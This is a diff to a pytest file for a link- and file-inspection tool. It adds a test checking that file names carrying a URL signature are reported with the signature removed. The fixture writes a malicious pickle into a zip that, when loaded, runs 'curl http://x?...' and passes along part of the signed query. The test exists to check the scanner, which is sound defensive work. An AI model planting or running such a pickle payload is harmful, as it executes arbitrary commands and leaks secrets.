@@ -8,6 +8,7 @@ import io
 import json
 import os
 import sys
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -182,3 +183,19 @@ def test_a_link_on_standard_input_is_inspected_and_anything_else_refused(
         monkeypatch.setattr(sys, "stdin", io.StringIO(given))
         assert main(["inspect", "-", "--audit", str(folder / "audit.jsonl")]) == code
         assert says in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("form", ["text", "json", "jsonl", "sarif", "cyclonedx"])
+def test_names_that_hold_a_signature_are_told_without_it(
+    form: str, folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    query = LINK.partition("?")[2]
+    (folder / "many").mkdir()
+    (folder / "many" / f"a?{query}").write_text("nothing here")
+    with zipfile.ZipFile(folder / "many" / "packed.zip", "w") as packed:
+        packed.writestr(f"b?{query}", "nothing here")
+        packed.writestr("c.pkl", f"cos\nsystem\n(S'curl http://x?{query[-70:]}'\ntR.")
+    assert main(["inspect", "many", "--format", form]) == 1
+    shown = "".join(capsys.readouterr().out.split())
+    assert "packed.zip" in shown
+    assert not [at for at in range(0, 24, 8) if samples.PLANTED[at : at + 12] in shown]
